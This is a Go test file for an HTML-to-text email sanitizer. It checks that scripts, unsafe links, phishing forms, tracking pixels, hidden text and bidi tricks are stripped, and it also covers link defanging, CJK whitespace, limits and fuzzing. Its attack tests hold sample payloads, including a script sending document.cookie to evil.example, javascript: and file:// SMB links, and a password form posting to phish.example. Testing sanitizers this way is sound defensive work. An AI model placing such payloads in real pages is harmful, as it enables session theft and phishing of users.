package text

import (
	"bytes"
	"context"
	"errors"
	"io"
	"os"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/text/encoding/japanese"

	"github.com/mugai-project/mugai/sanitizer/charset"
)

func htmlText(t testing.TB, in string, opts HTMLOptions) (string, HTMLResult) {
	t.Helper()
	var out bytes.Buffer
	res, err := HTMLToText(context.Background(), strings.NewReader(in), &out, opts)
	if err != nil {
		t.Fatalf("HTMLToText: %v", err)
	}
	if res.BytesOut != int64(out.Len()) {
		t.Errorf("BytesOut %d, wrote %d", res.BytesOut, out.Len())
	}
	return out.String(), res
}

// TestHTMLGolden compares with outputs checked by eye once and frozen.
func TestHTMLGolden(t *testing.T) {
	tests := []struct {
		in, golden string
		links      string
		urls       []string
		removed    map[string]int
	}{
		{"newsletter.html", "newsletter.golden.txt", "", []string{
			"https://news.example.jp/img/header-bg.png",
			"https://news.example.jp/css/extra.css",
			"https://news.example.jp/img/logo.png",
			"https://www.city.midori.example.lg.jp/kosodate/shien.html",
			"https://news.example.jp/unsubscribe?u=8f3a9c&l=ja",
			"mailto:koho@city.midori.example.lg.jp",
			"https://track.example.net/open.gif?id=12345&m=abc",
		}, map[string]int{"comment": 1, "hidden": 1, "image": 2, "tracking-pixel": 1, "style": 1}},
		{"newsletter.html", "newsletter.keep.golden.txt", LinksKeep, nil, nil},
		{"business.html", "business.golden.txt", LinksDefang, []string{
			"https://www.city.midori.example.lg.jp/keiyaku/yoshiki.xlsx",
			"mailto:suzuki@city.midori.example.lg.jp",
		}, map[string]int{"style": 1}},
	}
	for _, tt := range tests {
		t.Run(tt.golden, func(t *testing.T) {
			in, err := os.ReadFile("testdata/" + tt.in)
			if err != nil {
				t.Fatal(err)
			}
			want, err := os.ReadFile("testdata/" + tt.golden)
			if err != nil {
				t.Fatal(err)
			}
			got, res := htmlText(t, string(in), HTMLOptions{Links: tt.links})
			if got != string(want) {
				t.Errorf("output differs from %s:\n%s", tt.golden, got)
			}
			if tt.urls != nil && !slices.Equal(res.URLs, tt.urls) {
				t.Errorf("URLs %q, want %q", res.URLs, tt.urls)
			}
			if tt.removed != nil && !mapsEqual(res.Removed, tt.removed) {
				t.Errorf("Removed %v, want %v", res.Removed, tt.removed)
			}
		})
	}
}

func mapsEqual(a, b map[string]int) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if b[k] != v {
			return false
		}
	}
	return true
}

func TestHTMLAttacks(t *testing.T) {
	tests := []struct {
		name    string
		in      string
		want    string   // exact output
		absent  []string // must not appear
		removed string   // Removed key that must be counted
		url     string   // must be listed in URLs
	}{
		{
			name: "script", in: `<p>本文</p><script>document.location='https://evil.example/?c='+document.cookie</script>`,
			want: "本文\n", absent: []string{"document", "evil"}, removed: "script",
		},
		{
			name: "script src", in: `<script src="https://evil.example/x.js"></script>ok`,
			want: "ok\n", removed: "script", url: "https://evil.example/x.js",
		},
		{
			name: "onerror handler", in: `<img src=x onerror="alert(1)" alt="写真">`,
			want: "[画像: 写真]\n", absent: []string{"alert"}, removed: "event-handler",
		},
		{
			name: "javascript link", in: `<a href="javascript:alert(document.domain)">ここをクリック</a>`,
			want: "ここをクリック\n", absent: []string{"javascript", "alert"}, removed: "unsafe-url",
		},
		{
			name: "javascript link obfuscated", in: `<a href=" jav&#x09;ascript:alert(1)">x</a><a href="JaVaScRiPt:alert(2)">y</a>`,
			want: "xy\n", absent: []string{"alert"}, removed: "unsafe-url",
		},
		{
			name: "vbscript and data links", in: `<a href="vbscript:msgbox(1)">v</a> <a href="data:text/html;base64,PHNjcmlwdD4=">d</a>`,
			want: "v d\n", absent: []string{"msgbox", "base64"}, removed: "unsafe-url", url: "data:text/html,…",
		},
		{
			name: "file link to SMB share", in: `<a href="file://attacker.example/share/x.lnk">資料</a>`,
			want: "資料\n", absent: []string{"attacker"}, removed: "unsafe-url",
		},
		{
			name: "meta refresh", in: `<meta http-equiv="refresh" content="0; URL='https://phish.example/login'"><p>移動します</p>`,
			want: "移動します\n", absent: []string{"phish"}, removed: "meta-refresh", url: "https://phish.example/login",
		},
		{
			name: "tracking pixel", in: `<p>本文</p><img src="https://t.example/o.gif?id=1" width="1" height="1" alt="">`,
			want: "本文\n", removed: "tracking-pixel", url: "https://t.example/o.gif?id=1",
		},
		{
			name: "iframe", in: `前<iframe src="https://evil.example/frame">代替テキスト</iframe>後`,
			want: "前後\n", absent: []string{"代替"}, removed: "iframe", url: "https://evil.example/frame",
		},
		{
			name: "form phishing", in: `<form action="https://phish.example/post"><p>パスワード</p><input type=password name=pw><button>送信</button></form>`,
			want: "パスワード\n", absent: []string{"送信"}, removed: "form-control", url: "https://phish.example/post",
		},
		{
			name: "object embed", in: `<object data="https://evil.example/x.swf"><embed src="https://evil.example/y.swf">fallback</object>本文`,
			want: "本文\n", removed: "object", url: "https://evil.example/x.swf",
		},
		{
			name: "CSS hidden text display none", in: `<p>表示<span style="display: none !important">隠し文字</span></p>`,
			want: "表示\n", absent: []string{"隠し"}, removed: "hidden",
		},
		{
			name: "CSS hidden text variants",
			in: `<div style="VISIBILITY:hidden">a</div><div hidden>b</div><div aria-hidden="true">c</div>` +
				`<span style="font-size:0px">d</span><span style="opacity:0">e</span><p style="mso-hide:all">f</p>見える`,
			want: "見える\n", removed: "hidden",
		},
		{
			name: "head without end tag", in: `<html><head><title>件名</title><meta charset="utf-8"><body><p>本文</p>`,
			want: "本文\n",
		},
		{
			name: "text ends head", in: `<head><style>p{}</style>こんにちは`,
			want: "こんにちは\n", removed: "style",
		},
		{
			name: "HTML breaks out of unclosed svg", in: `<svg><text>svgtext</text><p>見える`,
			want: "見える\n", absent: []string{"svgtext"}, removed: "svg",
		},
		{
			name: "map content shown", in: `<map name=m><area href="https://e.example/a">地図</map>後`,
			want: "地図後\n", url: "https://e.example/a",
		},
		{
			name: "hidden span closed by parent end tag", in: `<div>a<span hidden>隠し</div>見える`,
			want: "a\n見える\n", removed: "hidden",
		},
		{
			name: "end tag does not escape object", in: `<div><object>代替</div>後`,
			want: "", removed: "object",
		},
		{
			name: "end tag does not escape template", in: `<div><template><p>x</div>y</template>見える`,
			want: "見える\n", removed: "template",
		},
		{
			name: "hidden with unclosed p closed by div", in: `<p style="display:none">隠し<div>見える</div>`,
			want: "見える\n",
		},
		{
			name: "style block", in: `<style>.x{background:url("https://t.example/bg.png")}</style>本文`,
			want: "本文\n", removed: "style", url: "https://t.example/bg.png",
		},
		{
			name: "css url in style attribute", in: `<td style="background-image:url(https://t.example/cell.png)">セル</td>`,
			want: "セル\n", url: "https://t.example/cell.png",
		},
		{
			name: "noscript and template", in: `<noscript><img src="https://t.example/ns.gif"></noscript><template><p>t</p></template>本文`,
			want: "本文\n", removed: "noscript", url: "https://t.example/ns.gif",
		},
		{
			name: "svg script", in: `<svg><script>alert(1)</script><text>svgtext</text></svg>本文`,
			want: "本文\n", absent: []string{"alert", "svgtext"}, removed: "svg",
		},
		{
			name: "comment conditional", in: `<!--[if mso]><p>Outlook only</p><![endif]-->本文`,
			want: "本文\n", removed: "comment",
		},
		{
			name: "bidi override in text", in: "請求書\u202Efdp.exe",
			want: "請求書fdp.exe\n", removed: "control-character",
		},
		{
			name: "phishing label shows real target", in: `<a href="https://evil.example/login">https://bank.example.co.jp/</a>`,
			want: "https://bank.example.co.jp/ <https://evil.example/login>\n",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			links := LinksKeep
			got, res := htmlText(t, tt.in, HTMLOptions{Links: links})
			if got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
			for _, a := range tt.absent {
				if strings.Contains(got, a) {
					t.Errorf("output contains %q", a)
				}
			}
			if tt.removed != "" && res.Removed[tt.removed] == 0 {
				t.Errorf("Removed[%q] = 0; Removed = %v", tt.removed, res.Removed)
			}
			if tt.url != "" && !slices.Contains(res.URLs, tt.url) {
				t.Errorf("URL %q not listed in %q", tt.url, res.URLs)
			}
		})
	}
}

func TestHTMLLinkModes(t *testing.T) {
	in := `<p>詳細は<a href="https://www.example.lg.jp/a/b?c=d">こちら</a>、` +
		`連絡先 <a href="mailto:info@example.jp">info@example.jp</a>、` +
		`本文中の http://plain.example.com/x です。</p>`
	tests := []struct {
		links, want string
	}{
		{LinksKeep, "詳細はこちら <https://www.example.lg.jp/a/b?c=d>、連絡先 info@example.jp、本文中の http://plain.example.com/x です。\n"},
		{LinksDefang, "詳細はこちら <hxxps://www[.]example[.]lg[.]jp/a/b?c=d>、連絡先 info@example.jp、本文中の hxxp://plain[.]example[.]com/x です。\n"},
		{LinksRemove, "詳細はこちら、連絡先 info@example.jp、本文中の [リンク削除] です。\n"},
	}
	for _, tt := range tests {
		t.Run(tt.links, func(t *testing.T) {
			got, res := htmlText(t, in, HTMLOptions{Links: tt.links})
			if got != tt.want {
				t.Errorf("got  %q\nwant %q", got, tt.want)
			}
			want := []string{"https://www.example.lg.jp/a/b?c=d", "mailto:info@example.jp", "http://plain.example.com/x"}
			if !slices.Equal(res.URLs, want) {
				t.Errorf("URLs %q, want %q", res.URLs, want)
			}
		})
	}
	var out bytes.Buffer
	if _, err := HTMLToText(context.Background(), strings.NewReader("x"), &out, HTMLOptions{Links: "show"}); err == nil {
		t.Error("unknown link mode accepted")
	}
}

func TestDefang(t *testing.T) {
	tests := map[string]string{
		"https://example.com/path":         "hxxps://example[.]com/path",
		"http://a.b.example.jp?x=1.2":      "hxxp://a[.]b[.]example[.]jp?x=1.2",
		"ftp://files.example.org/a.b":      "fxp://files[.]example[.]org/a.b",
		"mailto:user.name@example.lg.jp":   "mailto:user.name[@]example[.]lg[.]jp",
		"HTTPS://EXAMPLE.COM":              "hxxps://EXAMPLE[.]COM",
		"https://192.0.2.1:8443/admin#x.y": "hxxps://192[.]0[.]2[.]1:8443/admin#x.y",
	}
	for in, want := range tests {
		if got := Defang(in); got != want {
			t.Errorf("Defang(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestHTMLEntities(t *testing.T) {
	in := `<p>&lt;script&gt; &amp;amp; &copy; &#x3042;&#12356; &yen;100 &hellip; &nbsp;&quot;引用&quot; &unknown; &#0; &#x110000;</p>`
	got, _ := htmlText(t, in, HTMLOptions{})
	want := "<script> &amp; © あい ¥100 … \"引用\" &unknown; \uFFFD \uFFFD\n"
	if got != want {
		t.Errorf("got  %q\nwant %q", got, want)
	}
}

func TestHTMLWhitespaceCJK(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"CJK line join", "<p>日本語の\n  文章です。</p>", "日本語の文章です。\n"},
		{"latin line join", "<p>hello\nworld</p>", "hello world\n"},
		{"mixed keeps space", "<p>日本語\nEnglish</p>", "日本語 English\n"},
		{"spaces collapse", "<p>  a   b\t\tc  </p>", "a b c\n"},
		{"ideographic space kept", "<p>　字下げ</p>", "　字下げ\n"},
		{"same line CJK space kept", "<p>全角 スペース</p>", "全角 スペース\n"},
		{"br lines", "一<br>二<br><br>三", "一\n二\n\n三\n"},
		{"pre verbatim", "<pre>\n  a  b\n\tc\n</pre>", "  a  b\n\tc\n"},
		{"pre form feed and CR", "<pre>a\fb\r\nc\rd</pre>", "ab\nc\nd\n"},
		{"headings", "<h2>見出し</h2>本文", "【見出し】\n\n本文\n"},
		{"paragraphs in list items", "<ul><li><p>一</p></li><li><div><h3>二</h3></div></li></ul>", "・一\n・【二】\n"},
		{"ordered start", `<ol start="3"><li>c<li>d</ol>`, "3. c\n4. d\n"},
		{"ruby", "<ruby>漢字<rp>(</rp><rt>かんじ</rt><rp>)</rp></ruby>", "漢字(かんじ)\n"},
		{"data table", "<table><tr><th>名前<th>年齢<tr><td>山田<td>30</table>", "名前\t年齢\n山田\t30\n"},
		{"empty cell keeps column", "<table><tr><td><td>b<td>c</table>", "\tb\tc\n"},
		{"layout table", `<table role="presentation"><tr><td>左<td>右</table>`, "左\n右\n"},
		{"nested blockquote", "<blockquote>a<blockquote>b</blockquote></blockquote>", "> a\n> > b\n"},
		{"hr", "a<hr>b", "a\n────────────────────\nb\n"},
		{"controls removed", "a\x01b\x7fc\u0085d", "abcd\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, _ := htmlText(t, tt.in, HTMLOptions{})
			if got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

// TestHTMLDeepNesting: 100k nested divs are flattened past MaxDepth, in
// bounded memory (the element stack never exceeds MaxDepth).
func TestHTMLDeepNesting(t *testing.T) {
	n := 100000
	if testing.Short() {
		n = 20000
	}
	in := strings.Repeat("<div>", n) + "深い" + strings.Repeat("</div>", n) + "後"
	got, res := htmlText(t, in, HTMLOptions{})
	if got != "深い\n後\n" {
		t.Errorf("got %q", got)
	}
	if res.Removed["flattened"] != n-512 {
		t.Errorf("flattened %d, want %d", res.Removed["flattened"], n-512)
	}
}

func TestHTMLDeepNestingHiddenStaysHidden(t *testing.T) {
	in := strings.Repeat("<span>", 600) + `<span style="display:none">隠し<b>も</b></span>見える` + strings.Repeat("</span>", 600)
	got, _ := htmlText(t, in, HTMLOptions{MaxDepth: 100})
	if got != "見える\n" {
		t.Errorf("got %q", got)
	}
	in = `<div style="display:none">` + strings.Repeat("<i>", 300) + strings.Repeat("</i>", 600) + "隠し</div>見える"
	got, _ = htmlText(t, in, HTMLOptions{MaxDepth: 100})
	if got != "見える\n" {
		t.Errorf("stray end tags unhid content: %q", got)
	}
}

func TestHTMLLimits(t *testing.T) {
	var le *LimitError
	var out bytes.Buffer
	_, err := HTMLToText(context.Background(), strings.NewReader(strings.Repeat("<p>あいうえお</p>", 1000)), &out, HTMLOptions{MaxOutputBytes: 1000})
	if !errors.As(err, &le) || le.Limit != "output bytes" {
		t.Errorf("output limit: %v", err)
	}
	if out.Len() > 1000 {
		t.Errorf("wrote %d bytes past the limit", out.Len())
	}
	_, err = HTMLToText(context.Background(), strings.NewReader(strings.Repeat("a", 2000)), io.Discard, HTMLOptions{MaxInputBytes: 1000})
	if !errors.As(err, &le) || le.Limit != "input bytes" {
		t.Errorf("input limit: %v", err)
	}
	_, err = HTMLToText(context.Background(), strings.NewReader(`<img alt="`+strings.Repeat("a", 5000)+`">`), io.Discard, HTMLOptions{MaxTokenBytes: 1000})
	if !errors.As(err, &le) || le.Limit != "token bytes" {
		t.Errorf("token limit: %v", err)
	}
	got, res := htmlText(t, strings.Repeat(`<a href="https://e.example/`, 1)+`">x</a>`+strings.Repeat(`<img src="https://e.example/i">`, 5), HTMLOptions{MaxURLs: 1})
	if len(res.URLs) != 1 || got != "x <hxxps://e[.]example/>\n" {
		t.Errorf("MaxURLs: %q %q", got, res.URLs)
	}
}

func TestHTMLContextCanceled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := HTMLToText(ctx, strings.NewReader("<p>x</p>"), io.Discard, HTMLOptions{})
	if !errors.Is(err, context.Canceled) {
		t.Errorf("err = %v", err)
	}
}

func TestHTMLFileCharset(t *testing.T) {
	page := `<html><head><meta charset="Shift_JIS"></head><body><p>` + greeting + `</p></body></html>`
	sjis := encode(t, japanese.ShiftJIS, page)
	cs := charset.HTMLCharset(sjis)
	if cs != charset.ShiftJIS {
		t.Fatalf("HTMLCharset = %q", cs)
	}
	var out bytes.Buffer
	if _, err := HTMLToText(context.Background(), charset.Decoder(cs, bytes.NewReader(sjis)), &out, HTMLOptions{}); err != nil {
		t.Fatal(err)
	}
	if out.String() != greeting+"\n" {
		t.Errorf("got %q", out.String())
	}
}

func FuzzHTMLToText(f *testing.F) {
	for _, name := range []string{"newsletter.html", "business.html"} {
		b, err := os.ReadFile("testdata/" + name)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b)
	}
	for _, s := range []string{
		`<table><tr><td><p>a<td><ul><li>b</ul></table>`,
		`<a href="javascript:x"><img alt="y"></a><blockquote><pre>z</pre></blockquote>`,
		`<div style="display:none"><p>h</div>v<ruby>r<rt>t</ruby>`,
		strings.Repeat("<div>", 700) + "x",
		"<svg/><script/>x<plaintext>y",
	} {
		f.Add([]byte(s))
	}
	opts := HTMLOptions{MaxDepth: 64, MaxOutputBytes: 1 << 20}
	f.Fuzz(func(t *testing.T, in []byte) {
		var out bytes.Buffer
		res, err := HTMLToText(context.Background(), bytes.NewReader(in), &out, opts)
		if err != nil {
			var le *LimitError
			if !errors.As(err, &le) {
				t.Fatalf("unexpected error %v", err)
			}
			return
		}
		b := out.Bytes()
		if !utf8.Valid(b) {
			t.Fatalf("output not UTF-8: %q", b)
		}
		for _, c := range b {
			if (c < 0x20 && c != '\t' && c != '\n') || c == 0x7F {
				t.Fatalf("control %#x in output %q", c, b)
			}
		}
		if int64(len(b)) > opts.MaxOutputBytes || res.BytesOut != int64(len(b)) {
			t.Fatalf("output %d bytes, BytesOut %d", len(b), res.BytesOut)
		}
		if bytes.Contains(bytes.ToLower(b), []byte("<script")) && !bytes.Contains(bytes.ToLower(in), []byte("&lt;script")) {
			t.Fatalf("script tag in output: %q", b)
		}
	})
}

func BenchmarkHTMLToText(b *testing.B) {
	page, err := os.ReadFile("testdata/newsletter.html")
	if err != nil {
		b.Fatal(err)
	}
	in := bytes.Repeat(page, 50)
	b.SetBytes(int64(len(in)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := HTMLToText(context.Background(), bytes.NewReader(in), io.Discard, HTMLOptions{}); err != nil {
			b.Fatal(err)
		}
	}
}
